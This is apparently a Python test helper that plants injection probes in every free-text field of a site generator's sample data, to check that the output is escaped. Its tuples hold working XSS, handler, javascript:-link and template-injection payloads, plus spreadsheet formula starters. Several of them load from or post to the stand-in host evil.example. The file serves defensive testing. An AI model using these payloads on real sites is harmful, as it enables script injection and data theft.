"""What somebody might type into a field to make it more than text, and a data folder with it in every field.

The folder is the demonstration, which uses every key that a file may have (test_fields).  Each text in it is replaced:
by probes in one folder, by harmless letters of the same shape in its twin.  Both must give the same elements.
"""

import csv
import io
import json
import string
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache, partial
from itertools import cycle, islice
from pathlib import Path
from typing import Any

import pytest
from fields import DATA, KINDS, SCHEMAS, Schema, options_of
from sites import built

from generator.intake.read_yaml import read_yaml

FAR = "https://evil.example"  # nothing may ever be asked of it
# Each would run, load, leave, hide or break the page if it were taken for what it looks like.
SCRIPTS = (
    "<script>alert(1)</script>",
    f"<script src={FAR}/1.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--></script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" style="animation-name:x" onanimationstart="alert(1)',
    "` onclick=alert(1) x=`",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button onclick=alert(1)>x</button>",
    "<p onmouseenter=alert(1) tabindex=0>x</p>",
    "<object data=x onerror=alert(1)></object>",
    "<embed src=x onload=alert(1)>",
)
LINKS = (
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f'<a href="//evil.example/" onclick="alert(1)">x</a> <{FAR}/> {FAR}/',
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x][1] [1]: javascript:alert(1)",
    '![x](x"onerror=alert`1`"x)',
    '[x](x "<b onclick=alert(1)>")',
    "# x {#main onclick=alert(1)}",
    '{: onclick="alert(1)" href="javascript:alert(1)" }',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
WHOLE_PAGE = (
    f"<base href={FAR}/>",
    f'<meta http-equiv=refresh content="0;url={FAR}/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f"<link rel=stylesheet href={FAR}/1.css>",
    "<style>body{display:none}</style>",
    f"<style>@import '{FAR}/2.css';</style>",
    '<div style="position:fixed;inset:0;background:red">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"<form action={FAR}/><input name=id autofocus></form>",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "</article></main></body></html>",
    "<frameset><frame src=javascript:alert(1)>",
)
TEMPLATES = (
    "{{ 7919*7907 }}",
    "{% for x in (1,2) %}x{% endfor %}",
    "{{ config.site_dir }}{# x #}",
    "${7919*7907} #{7919*7907} <%= 7919*7907 %>",
    "{n} {0} {title} {service} {query} %(n)s %s $& $1",
    "@@body@@ @@title@@ @@no-such-slot@@",
    "\u2060title\u2060 \u2060service\u2060 \u2060name\u2060",
    '=HYPERLINK("https://evil.example","x")',
    "_x003C_r_x003E_ <r><t>x</t></r>",
    "__proto__ constructor toString",
)
PROBES = (*SCRIPTS, *HANDLERS, *LINKS, *WHOLE_PAGE, *TEMPLATES)
# A spreadsheet runs a cell that begins so.
STARTERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=")
# Every sign that means something to some program, as a letter that means nothing to any.
HARMLESS = str.maketrans(
    dict(zip((*string.punctuation, *"＝＋－＠\u2060"), map(chr, range(0x00E0, 0x0200)), strict=False))
)

# What is no free text, although its schema knows no pattern: an id of something else, or a word from a closed list.
CODES = {
    "withdrawn.replaced_by",
    "catalog.languages", "catalog.timezone", "service.replaced_by", "service.after", "service.requirements.fees.adjustments.is",
}  # fmt: skip
JOINER = "\u2060"
TYPED_BY_MACHINES = (".id", ".phone")  # what nobody sees is refused in these
NOTES = ("row.note_th", "row.note_en")


@dataclass(frozen=True, slots=True)
class Field:
    """A place where a string may stand: its kind of file, the path of its key, and whether anything may be typed there.

    ``pattern`` is what a schema says of its spelling, or "".
    """

    kind: str
    path: str
    free: bool
    pattern: str = ""

    @property
    def name(self) -> str:
        """Return kind and path in one."""
        return f"{self.kind}.{self.path}"


Change = Callable[[Field, str], str]


def changed(kind: str, value: Any, change: Change) -> Any:
    """Return a file's data with every string of it changed that may be one: in the order of the file."""
    return _changed(Field(kind, "", free=False), SCHEMAS[kind], value, change)


def _changed(at: Field, node: Schema, value: Any, change: Change) -> Any:
    options = options_of(SCHEMAS[at.kind], node)
    if isinstance(value, dict):
        record = next((option for option in options if value.keys() <= option.get("properties", {}).keys()), None)
        below = record["properties"] if record else dict.fromkeys(value, node)
        return {
            key: _changed(_below(at, key) if record else at, below[key], part, change) for key, part in value.items()
        }
    if isinstance(value, tuple):
        item = next((option["items"] for option in options if "items" in option), node)
        return tuple(_changed(at, item, part, change) for part in value)
    return change(_field(at, options, value), value) if isinstance(value, str) else value


def _below(at: Field, key: str) -> Field:
    return Field(at.kind, f"{at.path}.{key}" if at.path else key, free=False)


def _field(at: Field, options: list[Schema], value: str) -> Field:
    """Free text is what no pattern, list of values or other record limits."""
    path = at.path.replace(".add.", ".").removeprefix("add.")
    stated = any(value in (option.get("const"), *option.get("enum", ())) for option in options)
    pattern = next((option["pattern"] for option in options if "pattern" in option), "")
    coded = f"{at.kind}.{path}".replace("manual.", "service.", 1) in CODES or path.endswith(".if")
    return Field(at.kind, path, not (stated or pattern or coded), pattern)


def write_probed(folder: Path, *, harmless: bool = False) -> Path:
    """Write the demonstration with every free text of it probed, or with its harmless twin; return the folder."""
    plant = planter(harmless=harmless)
    for name, kind, data in data_files():
        _write(folder / name, _as_text(changed(kind, data, plant)))
    for path in sorted(DATA.glob("agencies/*/performance/*.csv")):
        _write(folder / path.relative_to(DATA), _probed_notes(path.read_text(encoding="utf-8-sig"), plant))
    _spoil(folder, harmless=harmless)
    return folder


def probed_site(factory: pytest.TempPathFactory, *, harmless: bool = False) -> Path:
    """Return the site of what ``write_probed`` writes, built once for all test processes of a run.

    It has no papers: what probes do on paper is tried by test_papers, in a fraction of the time.
    """
    data = write_probed(factory.mktemp("probed"), harmless=harmless)
    return built(factory, "harmless" if harmless else "probed", data, "--no-papers")


@cache
def typed_into() -> Mapping[str, tuple[str, ...]]:
    """Return every line that is typed into each field of the probed folder."""
    typed: dict[str, list[str]] = {}
    plant = planter(harmless=False)

    def keep(field: Field, value: str) -> str:
        words = plant(field, value)
        if field.free:
            typed.setdefault(field.name, []).extend(line.removeprefix("- ") for line in words.splitlines() if line)
        return words

    for _, kind, data in data_files():
        changed(kind, data, keep)
    for path in sorted(DATA.glob("agencies/*/performance/*.csv")):
        _probed_notes(path.read_text(encoding="utf-8-sig"), keep)
    return {name: tuple(lines) for name, lines in typed.items()}


def planter(*, harmless: bool) -> Change:
    """Return what puts probes into free text, line by line: over all lines of a field every probe has its turn."""
    lines = _lines()
    waiting = {name: cycle(PROBES) for name in lines}
    keys = sorted({name.rpartition(".")[2] for name in lines}, key=lambda key: (key != "title", key))
    starters = dict(zip(keys, cycle(STARTERS), strict=False))  # one for all titles, so that lists of them sort alike
    numbers = cycle(range(1000, 100_000))

    def line(name: str) -> str:
        some = islice(waiting[name], -(-len(PROBES) // lines[name]))
        typed = f"{next(numbers)} {' '.join(some)}"
        typed = typed.replace(JOINER, "") if name.endswith(TYPED_BY_MACHINES) else typed
        starter = (
            "" if name.endswith(".phone") else starters[name.rpartition(".")[2]]
        )  # a telephone dials what begins with a digit
        if harmless:  # a note that begins as a formula does is warned of, in both folders alike
            typed, starter = typed.translate(HARMLESS), starter and (starter if name in NOTES else "0")
        return f"{starter}{typed}"

    def change(field: Field, value: str) -> str:
        if not field.free:
            return value
        return "".join(_in_shape(one, partial(line, field.name)) for one in value.splitlines(keepends=True))

    return change


def _in_shape(line: str, typed: Callable[[], str]) -> str:
    """Return a line with other words: a list's item stays one, and an empty line empty."""
    words = line.strip()
    return line if not words else f"{'- ' if words.startswith('- ') else ''}{typed()}{line[len(line.rstrip()) :]}"


@cache
def data_files() -> tuple[tuple[str, str, Any], ...]:
    """Return every YAML file of the demonstration: its name, its kind, its data."""
    found = []
    for pattern, kind in {**KINDS, "agencies/*/withdrawn.yml": "withdrawn"}.items():
        for path in sorted(DATA.glob(pattern)):
            data, faults = read_yaml(path.read_text(encoding="utf-8"))
            assert not faults, path
            found.append((path.relative_to(DATA).as_posix(), kind, data))
    return tuple(found)


@cache
def _lines() -> Mapping[str, int]:
    """Return how many lines of free text the demonstration has of each field; notes are limited, so they count less."""
    counted: Counter[str] = Counter()

    def count(field: Field, value: str) -> str:
        if field.free:
            counted[field.name] += sum(bool(line.strip()) for line in value.splitlines())
        return value

    for _, kind, data in data_files():
        changed(kind, data, count)
    return {**counted, **dict.fromkeys(NOTES, len(PROBES) // 6)}


def _probed_notes(text: str, plant: Change) -> str:
    rows = list(csv.DictReader(text.splitlines()))
    out = io.StringIO()
    writer = csv.DictWriter(out, rows[0], lineterminator="\n")
    writer.writeheader()
    for row in rows:
        notes = {
            name: plant(Field("row", name, free=True), row[name]) for name in ("note_th", "note_en") if row.get(name)
        }
        writer.writerow({**row, **notes})
    return out.getvalue()


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


# What is refused is quoted where it is reported: an agency, a service, rows and names of files with probes for codes.
SPOILT = {"agencies/sample-institute/agency.yml": "agency", "agencies/lands/services/land-value.yml": "service"}
SPOILT_ROWS = "agencies/lands/performance/fy2026.csv"
SPOILT_NAMES = ("agencies/lands/services/{}.yml", "agencies/{}/agency.yml", "calendars/{}.yml")


def _spoil(folder: Path, *, harmless: bool) -> None:
    """Put probes where no text may stand; what holds them is held back."""
    probes = cycle(probe for probe in PROBES if "/" not in probe and JOINER not in probe)

    def typed() -> str:
        return next(probes).translate(HARMLESS) if harmless else next(probes)

    for name, kind in SPOILT.items():
        data, faults = read_yaml((folder / name).read_text(encoding="utf-8"))
        assert not faults
        coded = changed(kind, data, lambda field, value: value if field.free else typed())
        _write(folder / name, _as_text({**coded, typed(): typed()}))
    for name in SPOILT_NAMES:
        _write(folder / name.format(f"zz{typed()}"), "{}")  # behind all others, whatever sign comes first
    header, *_, row = csv.reader((folder / SPOILT_ROWS).read_text(encoding="utf-8").splitlines())
    spoilt = [[typed() if at == place else cell for at, cell in enumerate(row)] for place in range(len(header))]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(spoilt)
    with (folder / SPOILT_ROWS).open("a", encoding="utf-8") as file:
        file.write(out.getvalue())


def _as_text(data: Any) -> str:
    """Return data as YAML, of which JSON is a part."""
    return json.dumps(data, ensure_ascii=False, indent=0, default=float)
